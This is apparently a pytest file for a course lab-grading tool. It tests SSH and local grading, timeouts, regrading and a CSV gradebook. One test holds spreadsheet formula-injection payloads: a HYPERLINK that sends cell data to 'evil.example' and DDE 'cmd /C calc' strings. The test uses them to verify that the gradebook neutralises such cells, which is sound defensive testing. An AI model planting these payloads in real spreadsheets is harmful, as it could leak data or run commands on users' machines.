"""`python -m lab.grade` run for real against sshd and local guests: a class graded, a
hung or silent server cut off, regrading some, and a gradebook no spreadsheet runs."""

import csv
import json
import os
import socket
import subprocess
import sys
import threading
import time

import pytest

from lab.engine.results import check_results
from tests.support.localservers import free_port
from tests.support.paths import COURSE, REPO
from tests.support.roster import write_roster


def lab_grade(*args, cwd, timeout=60):
    run = subprocess.run([sys.executable, "-m", "lab.grade", *args], cwd=cwd, capture_output=True, text=True,
                         timeout=timeout, env={**os.environ, "PYTHONPATH": str(REPO), "PYTHONIOENCODING": "utf-8"})
    assert "Traceback" not in run.stdout + run.stderr
    return run


def read_book(path):
    raw = path.read_bytes()
    assert raw.startswith("\ufeff".encode()), "no BOM: Excel on Windows would misread the names"
    with open(path, newline="", encoding="utf-8-sig") as f:
        reader = csv.DictReader(f)
        return reader.fieldnames, {row["student"]: row for row in reader}


# --- the real command against real guests ---------------------------------------------------

@pytest.fixture
def silent_listener(listening_port):
    """An address that accepts TCP connections and never says a word: a hung SSH server."""
    return listening_port


def test_a_class_over_ssh_and_local(tmp_path, sshd):
    closed = free_port()
    roster = write_roster(tmp_path, "student,guest,section\n"
                                    f"bob,{sshd.url()},B\n"
                                    "alice,local://,A\n"
                                    f"carol,ssh://root@127.0.0.1:{closed}?key={sshd.key},A\n")
    run = lab_grade(str(roster), "--course", str(COURSE), "--steps", "good,mixed", "--jobs", "3", cwd=tmp_path)
    assert run.returncode == 2, run.stderr  # carol could not be checked
    columns, rows = read_book(tmp_path / "grades" / "gradebook.csv")
    assert columns == ["student", "guest", "section", "good", "mixed", "total", "max", "status", "reason",
                       "kit_solved"]
    assert list(rows) == ["bob", "alice", "carol"]  # roster order, whoever finished first
    for name in ("bob", "alice"):
        assert rows[name] | {"guest": ""} == {"student": name, "guest": "", "section": name[0].upper(), "good": "6",
                                              "mixed": "1", "total": "7", "max": "12", "status": "graded",
                                              "reason": "", "kit_solved": ""}
    assert rows["carol"]["status"] == "could not check" and rows["carol"]["total"] == ""
    assert rows["carol"]["reason"] == f"SSH at 127.0.0.1:{closed} refused the connection: is the machine running?"

    folder = tmp_path / "grades" / "bob"
    results = check_results(json.loads((folder / "results.json").read_text(encoding="utf-8")))
    assert results["score"] == 7 and results["guest"] == f"root@127.0.0.1:{sshd.port}"
    assert json.loads((folder / "gradescope.json").read_text(encoding="utf-8"))["score"] == 7
    assert "<html" in (folder / "report.html").read_text(encoding="utf-8")
    assert "refused the connection" in (tmp_path / "grades" / "carol" / "gradescope.json").read_text()
    assert not list((tmp_path / "grades").rglob("*.tmp"))
    assert run.stdout.splitlines()[-1] == "2 graded, 1 could not be checked, of 3: grades/gradebook.csv"


def test_a_hung_server_is_cut_off_by_its_deadline_while_the_others_finish(tmp_path, silent_listener, sshd):
    roster = write_roster(tmp_path, "student,guest\n"
                                    f"hung,ssh://root@127.0.0.1:{silent_listener}?key={sshd.key}\n"
                                    "alice,local://\n"
                                    f"bob,{sshd.url()}\n")
    started = time.monotonic()
    run = lab_grade(str(roster), "--course", str(COURSE), "--steps", "good", "--timeout", "2", cwd=tmp_path)
    # paramiko would wait 10 s for the banner; the student's deadline and the exit come first.
    assert time.monotonic() - started < 6
    assert run.returncode == 2
    assert run.stderr == ""  # paramiko says nothing of the banner it gave up on at exit
    _, rows = read_book(tmp_path / "grades" / "gradebook.csv")
    assert rows["hung"]["status"] == "could not check"
    assert rows["hung"]["reason"].startswith("did not finish within 2 s")
    assert [rows[n]["status"] for n in ("alice", "bob")] == ["graded", "graded"]
    assert "[1/3] alice: 6/6 points" in run.stdout or "[1/3] bob: 6/6 points" in run.stdout


def test_a_server_that_hangs_up_before_the_banner_is_one_reason_and_no_noise(tmp_path):
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        sock.listen(8)

        def hang_up():
            while True:
                try:
                    sock.accept()[0].close()
                except OSError:  # the test is over and closed the socket
                    return

        threading.Thread(target=hang_up, daemon=True).start()
        port = sock.getsockname()[1]
        roster = write_roster(tmp_path, f"student,guest\nalice,local://\nbob,ssh://root@127.0.0.1:{port}\n")
        run = lab_grade(str(roster), "--course", str(COURSE), "--steps", "good", cwd=tmp_path)
    assert run.returncode == 2
    # paramiko logs the error in its own thread: on stderr, it would land over the progress line.
    assert run.stderr == ""
    _, rows = read_book(tmp_path / "grades" / "gradebook.csv")
    # Tried again first, as for a server that turns logins away for a moment (lab.transports.ssh).
    assert rows["bob"]["reason"].startswith(f"SSH at 127.0.0.1:{port} closed the connection before its greeting, ")
    assert rows["bob"]["reason"].endswith("is the machine still starting up? wait a minute and try again; a server "
                                          "that turns away logins when many come at once (sshd's MaxStartups) does "
                                          "this too: make fewer at once (lab.grade --jobs)")


def test_every_student_graded_exits_0_and_only_regrades_some(tmp_path):
    roster = write_roster(tmp_path, "student,guest\nalice,local://\nbob,local://\n")
    out = tmp_path / "grades"
    assert lab_grade(str(roster), "--course", str(COURSE), "--steps", "good", cwd=tmp_path).returncode == 0
    alice_before = (out / "alice" / "results.json").read_bytes()
    with open(out / "gradebook.csv", "a", encoding="utf-8", newline="") as f:  # a row from an earlier roster
        f.write("zoe,local://,1,1,6,graded,,\r\n")

    closed = free_port()
    roster = write_roster(tmp_path, f"student,guest\nalice,local://\nbob,ssh://root@127.0.0.1:{closed}\n")
    run = lab_grade(str(roster), "--course", str(COURSE), "--steps", "good", "--only", "bob", cwd=tmp_path)
    assert run.returncode == 2
    columns, rows = read_book(out / "gradebook.csv")
    assert list(rows) == ["alice", "bob", "zoe"]
    assert rows["alice"]["total"] == "6" and rows["alice"]["status"] == "graded"
    assert rows["bob"]["status"] == "could not check" and rows["bob"]["guest"].endswith(str(closed))
    assert rows["zoe"]["total"] == "1"
    assert (out / "alice" / "results.json").read_bytes() == alice_before  # not graded again


# --- the gradebook's max, and cells a spreadsheet would run ------------------------------------

def test_every_student_of_a_run_has_the_same_max(tmp_path):
    """The good step has a check of Vagrant VMs only: it counts for no student graded over
    ssh:// or local://, nor for one who could not be checked at all."""
    roster = write_roster(tmp_path, f"student,guest\nalice,local://\nbob,ssh://root@127.0.0.1:{free_port()}\n")
    run = lab_grade(str(roster), "--course", str(COURSE), "--steps", "good,mixed", cwd=tmp_path)
    assert run.returncode == 2
    _, rows = read_book(tmp_path / "grades" / "gradebook.csv")
    assert [rows[name]["status"] for name in ("alice", "bob")] == ["graded", "could not check"]
    assert rows["alice"]["max"] == rows["bob"]["max"] == "12"
    results = json.loads((tmp_path / "grades" / "alice" / "results.json").read_text(encoding="utf-8"))
    assert results["max_score"] == 12


FORMULAS = {"student": '=HYPERLINK("http://evil.example/?"&A1,"click")', "section": "+1+cmd|' /C calc'!A0",
            "email": "@SUM(1+1)*cmd|' /C calc'!A0", "note": "-2+3", "tabbed": "\t=1+1", "returned": "\r=1+1"}


def spreadsheet_cells(book, work):
    """Every cell of the CSV as LibreOffice Calc reads it (UTF-8, commas, formulas evaluated,
    as its import dialog offers), saved as .xlsx and read back with openpyxl."""
    import openpyxl

    profile = work / "libreoffice-profile"  # its own, so a LibreOffice already open elsewhere doesn't answer
    run = subprocess.run(["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless",
                          "--infilter=CSV:44,34,76,1,,,,,,,,,true", "--convert-to", "xlsx", "--outdir", str(work),
                          str(book)], capture_output=True, text=True, timeout=120)
    sheet = work / (book.stem + ".xlsx")
    assert run.returncode == 0 and sheet.exists(), run.stdout + run.stderr
    return [cell for row in openpyxl.load_workbook(sheet).active.iter_rows() for cell in row]


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path):
    import pandas

    columns = list(FORMULAS)
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["student", "guest", *columns[1:]])
        writer.writerow([FORMULAS["student"], "local://", *(FORMULAS[c] for c in columns[1:])])
        writer.writerow(["plain", "local://", "A", "a@example.org", "3", "x", "y"])
    assert lab_grade(str(roster), "--course", str(COURSE), "--steps", "good", cwd=tmp_path).returncode == 0
    book = tmp_path / "grades" / "gradebook.csv"
    _, rows = read_book(book)
    row = rows["'" + FORMULAS["student"]]
    assert {c: row[c] for c in columns} == {c: "'" + value for c, value in FORMULAS.items()}
    assert (row["total"], row["max"], row["status"]) == ("6", "6", "graded")
    assert {c: rows["plain"][c] for c in columns[1:]} == dict(zip(columns[1:], ["A", "a@example.org", "3", "x", "y"]))

    frame = pandas.read_csv(book, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    cells = [cell for column in frame.columns for cell in frame[column]]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]

    # LibreOffice, as a teacher opens the file: nothing from the roster becomes a formula.
    assert [f"{c.coordinate} {c.value!r}" for c in spreadsheet_cells(book, tmp_path) if c.data_type == "f"] == []

    # Graded again with --only: the student is found again under the name the roster gives.
    assert lab_grade(str(roster), "--course", str(COURSE), "--steps", "good", "--only", "plain",
                     cwd=tmp_path).returncode == 0
    _, again = read_book(book)
    assert list(again) == ["'" + FORMULAS["student"], "plain"]
    assert again["'" + FORMULAS["student"]]["section"] == "'" + FORMULAS["section"]
